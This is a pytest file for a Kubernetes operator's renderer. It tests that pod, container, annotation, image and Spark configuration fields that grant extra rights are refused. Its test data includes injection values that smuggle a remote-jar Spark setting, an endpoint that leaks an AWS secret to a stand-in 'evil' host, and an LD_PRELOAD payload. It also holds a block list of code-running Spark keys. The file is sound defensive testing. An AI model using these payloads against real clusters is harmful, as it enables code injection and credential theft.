"""What authors of resources cannot make the operator do with its own rights: escalations through the renderer."""

from __future__ import annotations

import json
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st
from tests.unit.operator.support import flow_analysis, flow_log, gossip_router, model, relay_site, router

from isthmus_operator.render import Rendered, RenderSettings, render
from isthmus_operator.render.restrictions import SAFE, Restrictions
from isthmus_operator.resources import API_VERSION, InvalidResourceError, parse

EXAMPLES = sorted((Path(__file__).parents[3] / "examples").glob("*.yaml"))

SETTINGS = RenderSettings("router:1", collector_image="collector:1", analysis_image="analysis:1")
SIDECARS = Restrictions(allowed_images=("registry.example/team/",))
EXPOSED = Restrictions(allowed_exposures=("NodePort", "LoadBalancer"))
SIDECAR = {
    "name": "side",
    "image": "registry.example/team/side:1",
    "securityContext": {"allowPrivilegeEscalation": False, "capabilities": {"drop": ["ALL"]}},
}


def rendered(resource: dict[str, Any], allowed: Restrictions = SAFE) -> Rendered:
    around = [router("hub"), flow_log("flows")]
    beside = [item for item in around if item["metadata"]["name"] != resource["metadata"]["name"]]
    return render(model(*beside, resource), replace(SETTINGS, restrictions=allowed))


def refusals(resource: dict[str, Any], allowed: Restrictions = SAFE) -> list[str]:
    """Messages about a resource of which nothing is made."""
    found = rendered(resource, allowed)
    kind, name = resource["kind"], resource["metadata"]["name"]
    messages = [item.message for item in found.findings_of(kind, name) if item.reason == "NotAllowed"]
    made = {owner.name for owner, _ in found.owners() if owner.kind_name == kind}
    assert (name in made) == (not messages), "refused resources have no objects, and all others have"
    return messages


PODS: list[tuple[str, dict[str, Any]]] = [
    ("hostNetwork", {"hostNetwork": True}),
    ("hostPID", {"hostPID": True}),
    ("hostIPC", {"hostIPC": True}),
    ("hostUsers", {"hostUsers": True}),
    ("nodeName", {"nodeName": "control-plane"}),
    ("serviceAccountName", {"serviceAccountName": "admin"}),
    ("serviceAccount", {"serviceAccount": "admin"}),
    ("automountServiceAccountToken", {"automountServiceAccountToken": True}),
    ("shareProcessNamespace", {"shareProcessNamespace": True}),
    ("runtimeClassName", {"runtimeClassName": "runc"}),
    ("schedulerName", {"schedulerName": "mine"}),
    ("hostAliases", {"hostAliases": [{"ip": "10.0.0.1", "hostnames": ["kubernetes.default.svc"]}]}),
    ("dnsConfig", {"dnsConfig": {"nameservers": ["203.0.113.1"]}}),
    ("ephemeralContainers", {"ephemeralContainers": [{"name": "x"}]}),
    ("priorityClassName", {"priorityClassName": "system-node-critical"}),
    ("securityContext.runAsUser", {"securityContext": {"runAsUser": 0}}),
    ("securityContext.runAsNonRoot", {"securityContext": {"runAsNonRoot": False}}),
    ("securityContext.sysctls", {"securityContext": {"sysctls": [{"name": "a", "value": "b"}]}}),
    ("securityContext.seccompProfile", {"securityContext": {"seccompProfile": {"type": "Unconfined"}}}),
    ("securityContext.supplementalGroups", {"securityContext": {"supplementalGroups": [0]}}),
    ("volumes[host].hostPath", {"volumes": [{"name": "host", "hostPath": {"path": "/"}}]}),
    ("volumes[s].secret", {"volumes": [{"name": "s", "secret": {"secretName": "others"}}]}),
    ("volumes[t].projected", {"volumes": [{"name": "t", "projected": {"sources": []}}]}),
    ("volumes[c].csi", {"volumes": [{"name": "c", "csi": {"driver": "secrets-store.csi.k8s.io"}}]}),
    ("volumes[n].nfs", {"volumes": [{"name": "n", "nfs": {"server": "x", "path": "/"}}]}),
    (
        "volumes[p].persistentVolumeClaim",
        {"volumes": [{"name": "p", "persistentVolumeClaim": {"claimName": "others"}}]},
    ),
    (
        "volumes[e].ephemeral",
        {"volumes": [{"name": "e", "ephemeral": {"volumeClaimTemplate": {"spec": {"dataSource": {}}}}}]},
    ),
    ("securityContext.fsGroup", {"securityContext": {"fsGroup": 26}}),
    ("securityContext.supplementalGroups", {"securityContext": {"supplementalGroups": [26]}}),
    ("volumes[config]", {"volumes": [{"name": "config", "configMap": {"name": "mine"}}]}),
    ("volumes[tmp]", {"volumes": [{"name": "tmp", "configMap": {"name": "mine"}}]}),
    ("containers[side]", {"containers": [{**SIDECAR, "image": "evil:1"}]}),
    ("initContainers[side]", {"initContainers": [{**SIDECAR, "image": "evil:1"}]}),
    ("containers", {"containers": {"name": "x"}}),
]


@pytest.mark.parametrize(("field", "spec"), PODS, ids=[field for field, _ in PODS])
def test_fields_of_pods_that_give_rights_are_refused(field: str, spec: dict[str, Any]) -> None:
    template = {"spec": spec}
    for resource in with_pods_of(template):
        messages = refusals(resource)
        assert messages, resource["kind"]
        assert f"spec.podTemplate.spec.{field}" in messages[0]
        assert "restrictions." in messages[0]
        assert refusals(resource, Restrictions("Any")) == []


OWN: list[dict[str, Any]] = [
    {"image": "evil:1"},
    {"command": ["sh"]},
    {"args": ["-c", "id"]},
    {"env": [{"name": "LD_PRELOAD", "value": "/tmp/x.so"}]},
    {"env": [{"name": "X", "valueFrom": {"secretKeyRef": {"name": "others", "key": "password"}}}]},
    {"envFrom": [{"secretRef": {"name": "others"}}]},
    {"volumeMounts": [{"name": "tmp", "mountPath": "/opt"}]},
    {"lifecycle": {"postStart": {"exec": {"command": ["sh"]}}}},
    {"securityContext": {"privileged": True}},
    {"securityContext": {"capabilities": {"add": ["SYS_ADMIN"]}}},
    {"ports": [{"containerPort": 1, "hostPort": 1}]},
]


@pytest.mark.parametrize("change", OWN, ids=lambda change: next(iter(change)))
def test_only_resources_of_the_operators_own_containers_change(change: dict[str, Any]) -> None:
    for resource, container in (
        (router("west"), "router"),
        (gossip_router("gossip"), "gossip-router"),
        (flow_log("log"), "collector"),
        (flow_analysis("daily"), "driver"),
        (flow_analysis("daily"), "executor"),
    ):
        entry = {"name": container, **change}
        resource["spec"]["podTemplate"] = {"spec": {"containers": [entry]}}
        (message,) = refusals(resource, SIDECARS)
        assert f"containers[{container}].{next(iter(change))}" in message
        entry = {"name": container, "resources": {"limits": {"memory": "1Gi"}}}
        resource["spec"]["podTemplate"] = {"spec": {"containers": [entry]}}
        assert refusals(resource) == []


SIDECAR_CHANGES: list[tuple[str, dict[str, Any]]] = [
    ("image", {"image": "registry.example/team-evil/x"}),
    ("image", {"image": ""}),
    ("securityContext", {"securityContext": {}}),
    ("securityContext.privileged", {"securityContext": {**SIDECAR["securityContext"], "privileged": True}}),  # type: ignore[dict-item]
    ("securityContext.runAsUser", {"securityContext": {**SIDECAR["securityContext"], "runAsUser": 0}}),  # type: ignore[dict-item]
    (
        "securityContext.procMount",
        {"securityContext": {**SIDECAR["securityContext"], "procMount": "Unmasked"}},
    ),  # type: ignore[dict-item]
    (
        "securityContext.capabilities",
        {
            "securityContext": {
                "allowPrivilegeEscalation": False,
                "capabilities": {"drop": ["ALL"], "add": ["NET_RAW"]},
            }
        },
    ),
    ("env[P]", {"env": [{"name": "P", "valueFrom": {"secretKeyRef": {"name": "x", "key": "y"}}}]}),
    ("envFrom", {"envFrom": [{"secretRef": {"name": "x"}}]}),
    ("ports", {"ports": [{"containerPort": 80, "hostPort": 80}]}),
    *(
        (f"volumeMounts[{name}]", {"volumeMounts": [{"name": name, "mountPath": "/mnt", "readOnly": True}]})
        for name in ("config", "tls", "flows", "tmp", "scratch", "staging")
    ),
    ("volumeDevices", {"volumeDevices": [{"name": "a", "devicePath": "/dev/sda"}]}),
]


@pytest.mark.parametrize(("field", "change"), SIDECAR_CHANGES)
def test_sidecars_meet_the_restricted_standard(field: str, change: dict[str, Any]) -> None:
    good = router("west", podTemplate={"spec": {"containers": [SIDECAR]}})
    assert refusals(good, SIDECARS) == []
    bad = router("west", podTemplate={"spec": {"containers": [{**SIDECAR, **change}]}})
    assert f"containers[side].{field}" in refusals(bad, SIDECARS)[0]
    early = router("west", podTemplate={"spec": {"initContainers": [{**SIDECAR, **change}]}})
    assert f"initContainers[side].{field}" in refusals(early, SIDECARS)[0]
    for resource in (gossip_router("gossip"), flow_log("log")):
        resource["spec"]["podTemplate"] = bad["spec"]["podTemplate"]
        assert f"containers[side].{field}" in refusals(resource, SIDECARS)[0]


def test_sidecars_have_volumes_of_their_own() -> None:
    spec = {
        "containers": [{**SIDECAR, "volumeMounts": [{"name": "mine", "mountPath": "/mnt"}]}],
        "volumes": [{"name": "mine", "emptyDir": {}}],
    }
    assert refusals(router("west", podTemplate={"spec": spec}), SIDECARS) == []


def test_a_driver_has_no_sidecars_as_they_would_have_its_token() -> None:
    analysis = flow_analysis("daily", podTemplate={"spec": {"containers": [SIDECAR]}})
    assert "rights of the driver" in refusals(analysis, SIDECARS)[0]


KEYS = [
    ("annotations", "sidecar.istio.io/proxyImage"),
    ("annotations", "sidecar.istio.io/userVolume"),
    ("annotations", "config.linkerd.io/proxy-image"),
    ("annotations", "dapr.io/sidecar-image"),
    ("annotations", "consul.hashicorp.com/connect-inject"),
    ("annotations", "container.apparmor.security.beta.kubernetes.io/router"),
    ("annotations", "seccomp.security.alpha.kubernetes.io/pod"),
    ("annotations", "iam.amazonaws.com/role"),
    ("annotations", "vault.hashicorp.com/agent-inject"),
    ("annotations", "k8s.v1.cni.cncf.io/networks"),
    ("annotations", "prometheus.io.evil.example/xy"),
    ("labels", "sidecar.istio.io/inject"),
    ("labels", "azure.workload.identity/use"),
    ("labels", "pod-security.kubernetes.io/enforce"),
    ("labels", "app"),
    ("labels", "k8s-app"),
]


def with_pods_of(template: dict[str, Any]) -> tuple[dict[str, Any], ...]:
    """A resource of each kind that has pods, with this `podTemplate`."""
    return (
        router("west", podTemplate=template),
        gossip_router("gossip", podTemplate=template),
        flow_log("log", podTemplate=template),
        flow_analysis("daily", podTemplate=template),
    )


@pytest.mark.parametrize(("kind", "key"), KEYS)
def test_keys_that_others_act_on_are_refused_in_pods(kind: str, key: str) -> None:
    template = {"metadata": {kind: {key: "x"}}}
    for resource in with_pods_of(template):
        (message,) = refusals(resource)
        assert f'spec.podTemplate.metadata.{kind}: the key "{key}" is not allowed' in message
        assert "restrictions.allowedMetadata of the chart" in message
        assert refusals(resource, Restrictions("Any")) == []
        for entry in (key, f"{key.partition('/')[0]}/", "*"):
            if "/" in key or not entry.endswith("/"):
                assert refusals(resource, Restrictions(allowed_metadata=(entry,))) == []
        for entry in (key[:-1], key.partition("/")[0][1:] + "/", "other"):
            assert refusals(resource, Restrictions(allowed_metadata=(entry,)))


@pytest.mark.parametrize("kind", ["labels", "annotations"])
@pytest.mark.parametrize(
    "key", ["isthmus.dev/restart-hash", "isthmus.dev/flowlog", "isthmus.dev/config-sync"]
)
def test_keys_of_the_operator_are_refused_whatever_is_allowed(kind: str, key: str) -> None:
    (message,) = refusals(
        router("west", podTemplate={"metadata": {kind: {key: "x"}}}), Restrictions(allowed_metadata=("*",))
    )
    assert f'the key "{key}" is the operator\'s own' in message


SERVICE_KEYS = (
    "external-dns.alpha.kubernetes.io/hostname",
    "metallb.universe.tf/loadBalancerIPs",
    "service.beta.kubernetes.io/aws-load-balancer-ssl-cert",
    "getambassador.io/config",
)


@pytest.mark.parametrize("key", SERVICE_KEYS)
def test_keys_that_others_act_on_are_refused_in_services(key: str) -> None:
    exposed = {"serviceAnnotations": {key: "x"}}
    resources = {
        "spec.listeners[a].serviceAnnotations": router(
            "west", listeners=[{"name": "a", "port": 5672, "exposure": "LoadBalancer", **exposed}]
        ),
        "spec.serviceAnnotations": gossip_router("gossip", expose="LoadBalancer", **exposed),
    }
    for field, resource in resources.items():
        (message,) = refusals(resource, EXPOSED)
        assert f'{field}: the key "{key}" is not allowed' in message
        assert "restrictions.allowedMetadata of the chart" in message
        assert refusals(resource, replace(EXPOSED, pod_template="Any")) != [], "they are not of the pod"
        assert refusals(resource, replace(EXPOSED, allowed_metadata=(key,))) == []


@pytest.mark.parametrize("key", SERVICE_KEYS)
def test_the_service_of_a_site_has_only_allowed_annotations_and_the_site_runs(key: str) -> None:
    bridge = {"serviceAnnotations": {key: "x", "owner": "me"}}
    site = relay_site("nyc", "hub", bridge=bridge)
    for allowed, kept in ((SAFE, {"owner": "me"}), (Restrictions(allowed_metadata=(key,)), None)):
        found = render(model(router("hub"), site), replace(SETTINGS, restrictions=allowed))
        assert set(found.plan.relay_sites) == {"nyc"}
        (service,) = [
            item
            for item in found.routers["hub"].objects
            if (item["kind"], item["metadata"]["name"]) == ("Service", "nyc-bridge")
        ]
        assert service["metadata"]["annotations"] == (kept or bridge["serviceAnnotations"])
        messages = [
            item.message for item in found.findings_of("RelaySite", "nyc") if item.reason == "NotAllowed"
        ]
        assert len(messages) == (1 if kept else 0)
        for message in messages:
            assert f'spec.bridge.serviceAnnotations: the key "{key}" is not allowed' in message
            assert "restrictions.allowedMetadata of the chart" in message


def test_what_only_places_pods_is_allowed() -> None:
    spec = {
        "nodeSelector": {"disk": "ssd"},
        "tolerations": [{"key": "a", "operator": "Exists"}],
        "affinity": {"nodeAffinity": {}},
        "topologySpreadConstraints": [],
        "imagePullSecrets": [{"name": "pull"}],
        "securityContext": {"fsGroupChangePolicy": "OnRootMismatch", "runAsUser": 1000},
        "volumes": [{"name": "tmp", "emptyDir": {"sizeLimit": "1Gi"}}],
    }
    metadata = {
        "labels": {"app.kubernetes.io/version": "1"},
        "annotations": {
            "prometheus.io/scrape": "false",
            "owner": "me",
            "cluster-autoscaler.kubernetes.io/safe-to-evict": "true",
        },
    }
    template = {"metadata": metadata, "spec": spec}
    for resource in with_pods_of(template):
        assert refusals(resource) == []


def test_images_are_those_of_the_installation_unless_it_allows_others() -> None:
    for resource in (router("west"), gossip_router("gossip"), flow_log("log"), flow_analysis("daily")):
        resource["spec"]["image"] = "registry.example/team/router:2"
        assert "spec.image" in refusals(resource)[0]
        for prefix in (
            "registry.example/team/",
            "registry.example/team",
            "registry.example/team/router",
            "*",
        ):
            assert refusals(resource, Restrictions(allowed_images=(prefix,))) == []
        for prefix in ("registry.example/tea", "registry.example/team/route", "example/team/"):
            assert refusals(resource, Restrictions(allowed_images=(prefix,)))


@pytest.mark.parametrize(
    ("entry", "good", "bad"),
    [
        ("registry.bank", "registry.bank/router:1", "registry.bank:5000/evil"),
        ("registry.bank", "registry.bank/a/b@sha256:0", "registry.bank.evil.example/router"),
        ("registry.bank:5000", "registry.bank:5000/router", "registry.bank:50000/router"),
        ("registry.bank/router", "registry.bank/router:1", "registry.bank/router-evil:1"),
        ("router", "router:1", "router:5000/evil:1"),
        ("router", "router@sha256:0", "router@x/evil"),
        ("router:1", "router:1@sha256:0", "router:10"),
    ],
)
def test_a_prefix_of_images_ends_at_a_boundary(entry: str, good: str, bad: str) -> None:
    allowed = Restrictions(allowed_images=(entry,))
    assert refusals(router("west", image=good), allowed) == []
    assert "spec.image" in refusals(router("west", image=bad), allowed)[0]


@pytest.mark.parametrize("kind", ["podAffinity", "podAntiAffinity"])
@pytest.mark.parametrize("field", ["namespaces", "namespaceSelector"])
@pytest.mark.parametrize("required", [True, False])
def test_affinity_is_to_pods_of_the_same_namespace(kind: str, field: str, required: bool) -> None:
    term: dict[str, Any] = {"topologyKey": "kubernetes.io/os", "labelSelector": {}}

    def affinity(term: dict[str, Any]) -> dict[str, Any]:
        if required:
            return {kind: {"requiredDuringSchedulingIgnoredDuringExecution": [term]}}
        item = {"weight": 1, "podAffinityTerm": term}
        return {kind: {"preferredDuringSchedulingIgnoredDuringExecution": [item]}}

    for resource in (
        router("west"),
        gossip_router("gossip"),
        flow_log("log"),
        flow_analysis("daily"),
    ):
        resource["spec"]["podTemplate"] = {"spec": {"affinity": affinity(term)}}
        assert refusals(resource) == []
        for value in ([], {}, ["kube-system"], {"matchLabels": {"a": "b"}}):
            resource["spec"]["podTemplate"] = {"spec": {"affinity": affinity({**term, field: value})}}
            (message,) = refusals(resource)
            assert f"spec.podTemplate.spec.affinity.{kind}" in message
            assert field in message
            assert refusals(resource, Restrictions("Any")) == []


def test_priority_classes_are_those_that_the_installation_allows() -> None:
    template = {"spec": {"priorityClassName": "high"}}
    for resource in with_pods_of(template):
        (message,) = refusals(resource)
        assert "spec.podTemplate.spec.priorityClassName" in message
        assert "restrictions.allowedPriorityClasses of the chart" in message
        assert refusals(resource, Restrictions(allowed_priority_classes=("hig", "other")))
        for entry in ("high", "*"):
            assert refusals(resource, Restrictions(allowed_priority_classes=(entry,))) == []
    system = router("west", podTemplate={"spec": {"priorityClassName": "system-node-critical"}})
    assert refusals(system, Restrictions(allowed_priority_classes=("*", "system-node-critical")))


def test_claims_of_others_are_those_that_the_installation_allows() -> None:
    log = flow_log("flows", volume={"claimName": "others"})
    around = (router("hub"), flow_analysis("daily"))
    for refusing in (SAFE, Restrictions("Any"), Restrictions(allowed_claims=("other", "flows"))):
        found = render(model(*around, log), replace(SETTINGS, restrictions=refusing))
        assert (dict(found.flow_logs), dict(found.flow_analyses)) == ({}, {})
        (of_log,) = found.findings_of("FlowLog", "flows")
        (of_analysis,) = found.findings_of("FlowAnalysis", "daily")
        for item in (of_log, of_analysis):
            assert (item.reason, item.blocking) == ("NotAllowed", True)
            assert 'spec.volume.claimName: the operator does not allow the claim "others"' in item.message
            assert "restrictions.allowedClaims of the chart" in item.message
        assert 'FlowLog "flows" (spec.flowLogRef)' in of_analysis.message
    for entry in ("others", "*"):
        found = render(
            model(*around, log), replace(SETTINGS, restrictions=Restrictions(allowed_claims=(entry,)))
        )
        assert (set(found.flow_logs), set(found.flow_analyses)) == ({"flows"}, {"daily"})


@pytest.mark.parametrize("exposure", ["NodePort", "LoadBalancer"])
def test_services_are_reached_from_outside_where_the_installation_allows_it(exposure: str) -> None:
    other = "NodePort" if exposure == "LoadBalancer" else "LoadBalancer"
    listeners = [{"name": "a", "port": 5672}, {"name": "b", "port": 5673, "exposure": exposure}]
    for field, resource in (
        ("spec.listeners[b].exposure", router("west", listeners=listeners)),
        ("spec.expose", gossip_router("gossip", expose=exposure)),
    ):
        for refusing in (SAFE, Restrictions("Any"), Restrictions(allowed_exposures=(other,))):
            (message,) = refusals(resource, refusing)
            assert f"{field}: {exposure} is not allowed" in message
            assert "restrictions.allowedExposures of the chart" in message
        assert refusals(resource, Restrictions(allowed_exposures=(exposure,))) == []


@pytest.mark.parametrize("exposure", ["NodePort", "LoadBalancer"])
def test_a_site_that_must_not_be_reached_from_outside_runs_inside(exposure: str) -> None:
    site = relay_site("nyc", "hub", bridge={"expose": exposure, "nodePort": 30900})
    for allowed in (SAFE, Restrictions(allowed_exposures=(exposure,))):
        found = render(model(router("hub"), site), replace(SETTINGS, restrictions=allowed))
        (service,) = [
            item["spec"]
            for item in found.routers["hub"].objects
            if (item["kind"], item["metadata"]["name"]) == ("Service", "nyc-bridge")
        ]
        messages = [
            item.message for item in found.findings_of("RelaySite", "nyc") if item.reason == "NotAllowed"
        ]
        if allowed is SAFE:
            assert (service["type"], service["clusterIP"]) == ("ClusterIP", "None")
            assert "nodePort" not in service["ports"][0]
            (message,) = messages
            assert f"spec.bridge.expose: {exposure} is not allowed" in message
            assert "restrictions.allowedExposures of the chart" in message
        else:
            assert (service["type"], service["ports"][0]["nodePort"]) == (exposure, 30900)
            assert messages == []


@pytest.mark.parametrize(
    "image", ["x\nspark.jars http://evil/x.jar", "x y", "-x", "x\\", "x\x00", "https://evil/ x", ""]
)
def test_images_have_no_characters_that_could_begin_another_line(image: str) -> None:
    for resource in (router("west"), gossip_router("gossip"), flow_log("log"), flow_analysis("daily")):
        resource["spec"]["image"] = image
        with pytest.raises(InvalidResourceError):
            parse(resource)


@pytest.mark.parametrize(
    "change",
    [
        {"url": "s3a://bucket/a\nspark.jars x"},
        {"url": "s3a://bucket/a\\"},
        {"endpoint": "https://x\nspark.jars x"},
        {"endpoint": "https://x spark.jars"},
        {"endpoint": "https://${env:AWS_SECRET_ACCESS_KEY}.evil.example"},
        {"region": "eu\nspark.jars x"},
    ],
)
def test_the_place_of_a_flow_log_cannot_begin_another_setting(change: dict[str, str]) -> None:
    place = {"url": "s3a://bucket/a", "endpoint": "https://x:9000", "region": "eu-west-1"}
    parse(flow_log("log", s3=place))
    with pytest.raises(InvalidResourceError):
        parse(flow_log("log", s3={**place, **change}))


@pytest.mark.parametrize(
    "key",
    [
        "spark.jars",
        "spark.jars.packages",
        "spark.jars.repositories",
        "spark.plugins",
        "spark.files",
        "spark.archives",
        "spark.driver.extraJavaOptions",
        "spark.driver.defaultJavaOptions",
        "spark.executor.extraJavaOptions",
        "spark.driver.extraClassPath",
        "spark.executor.extraClassPath",
        "spark.driver.extraLibraryPath",
        "spark.driver.userClassPathFirst",
        "spark.executorEnv.LD_PRELOAD",
        "spark.extraListeners",
        "spark.sql.extensions",
        "spark.sql.catalog.evil",
        "spark.sql.queryExecutionListeners",
        "spark.sql.streaming.streamingQueryListeners",
        "spark.serializer",
        "spark.io.compression.codec",
        "spark.shuffle.manager",
        "spark.metrics.conf",
        "spark.pyspark.python",
        "spark.pyspark.driver.python",
        "spark.redaction.regex",
        "spark.history.fs.logDirectory",
        "spark.hadoop.fs.s3a.aws.credentials.provider",
        "spark.hadoop.fs.s3a.proxy.host",
        "spark.hadoop.hadoop.security.credential.provider.path",
        "spark.driver.resource.gpu.discoveryScript",
        "spark.driver.bindAddress",
        "spark.driver.port",
        "spark.acls.enable",
        "spark.ssl.enabled",
    ],
)
def test_settings_of_spark_that_run_code_or_reach_hosts_are_refused(key: str) -> None:
    (message,) = refusals(flow_analysis("daily", sparkConf={key: "x"}))
    assert f'"{key}"' in message
    assert "restrictions.sparkConf" in message
    assert refusals(flow_analysis("daily", sparkConf={key: "x"}), Restrictions(spark_conf="Any")) == []


@pytest.mark.parametrize("key", ["spark.authenticate", "spark.kubernetes.namespace", "spark.submit.pyFiles"])
def test_settings_that_the_operator_makes_are_refused_whatever_is_allowed(key: str) -> None:
    with pytest.raises(InvalidResourceError, match="sparkConf must have names"):
        parse(flow_analysis("daily", sparkConf={key: "x"}))


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("spark.task.cpus", "1\nspark.jars http://evil/x.jar"),
        ("spark.task.cpus", "1\rspark.jars http://evil/x.jar"),
        ("spark.task.cpus", "1\x00"),
        ("spark.task.cpus\nspark.jars", "1"),
        ("spark.task.cpus=2\tspark.jars", "1"),
        ("spark.task cpus", "1"),
        ("spark.task.cpus:", "1"),
        ("spark.task.cpus\\", "1"),
    ],
)
def test_settings_of_spark_cannot_begin_another_one(key: str, value: str) -> None:
    with pytest.raises(InvalidResourceError):
        parse(flow_analysis("daily", sparkConf={key: value}))


def test_a_value_cannot_join_the_next_line_or_read_the_environment() -> None:
    for value in ("1\\", "${env:AWS_SECRET_ACCESS_KEY}", "\\u000aspark.jars x"):
        (message,) = refusals(flow_analysis("daily", sparkConf={"spark.task.cpus": value}))
        assert "backslash or a substitution" in message


@given(st.text(st.characters(exclude_categories=("Cc", "Cs")), max_size=40))
def test_the_file_of_settings_has_one_line_for_each_whatever_is_allowed(value: str) -> None:
    conf = {"spark.x": value}
    found = rendered(flow_analysis("daily", sparkConf=conf), Restrictions(spark_conf="Any"))
    if "daily" not in found.flow_analyses:
        return
    made = {item["kind"]: item for item in found.flow_analyses["daily"].objects}
    lines = made["ConfigMap"]["data"]["spark-defaults.conf"].split("\n")
    assert all(line.startswith("spark.") for line in lines[:-1])
    assert len([line for line in lines if line.startswith("spark.x ")]) == 1
    (own,) = [line for line in lines if line.startswith("spark.x ")]
    assert not (len(own) - len(own.rstrip("\\"))) % 2, "no line goes on in the next one"


def test_only_its_own_pods_reach_a_driver() -> None:
    found = rendered(flow_analysis("daily"))
    made = {item["kind"]: item for item in found.flow_analyses["daily"].objects}
    policy = made["NetworkPolicy"]["spec"]
    labels = made["Job"]["spec"]["template"]["metadata"]["labels"]
    assert policy["podSelector"]["matchLabels"].items() <= labels.items()
    # This operator runs in no namespace, so no pod is the operator.
    (rule,) = policy["ingress"]
    assert rule == {"from": [{"podSelector": policy["podSelector"]}]}, "no other namespace, no other analysis"


def test_the_operator_alone_reaches_the_user_interface_of_a_driver_and_nothing_else() -> None:
    settings = replace(SETTINGS, operator_namespace="isthmus")
    found = render(model(flow_log("flows"), flow_analysis("daily")), settings)
    made = {item["kind"]: item for item in found.flow_analyses["daily"].objects}
    (rule,) = [rule for rule in made["NetworkPolicy"]["spec"]["ingress"] if "ports" in rule]
    (driver,) = made["Job"]["spec"]["template"]["spec"]["containers"]
    assert [port["containerPort"] for port in driver["ports"]] == [port["port"] for port in rule["ports"]]
    (peer,) = rule["from"]
    assert peer["namespaceSelector"]["matchLabels"] == {"kubernetes.io/metadata.name": "isthmus"}
    assert peer["podSelector"]["matchLabels"] == {"app.kubernetes.io/name": "isthmus-operator"}


def test_the_policy_of_a_driver_holds_for_executors_as_well() -> None:
    found = rendered(flow_analysis("daily"))
    made = {item["kind"]: item for item in found.flow_analyses["daily"].objects}
    selected = made["NetworkPolicy"]["spec"]["podSelector"]["matchLabels"]
    executor = json.loads(made["ConfigMap"]["data"]["executor.json"])
    assert selected.items() <= executor["metadata"]["labels"].items()


def test_files_with_secrets_are_for_the_group_of_the_pod_only() -> None:
    around = render(model(router("west"), flow_log("log", "west")), SETTINGS)
    pods = [
        item["spec"]["template"]["spec"]
        for _, objects in around.owners()
        for item in objects
        if item["kind"] in {"StatefulSet", "Deployment"}
    ]
    assert len(pods) == 2
    for pod in pods:
        modes = [volume["secret"]["defaultMode"] for volume in pod["volumes"] if "secret" in volume]
        assert modes == [0o440]
        assert pod["securityContext"]["fsGroup"] > 0


@pytest.mark.parametrize("path", EXAMPLES, ids=lambda path: path.stem)
def test_examples_need_no_setting_of_the_installation(path: Path) -> None:
    manifests = [item for item in yaml.safe_load_all(path.read_text()) if item["apiVersion"] == API_VERSION]
    for number, item in enumerate(manifests):
        item["metadata"] |= {"namespace": "net", "uid": f"uid-{number}", "generation": 1}
    assert manifests
    found = render(model(*manifests), SETTINGS)
    assert [item for item in found.findings if item.reason == "NotAllowed"] == []
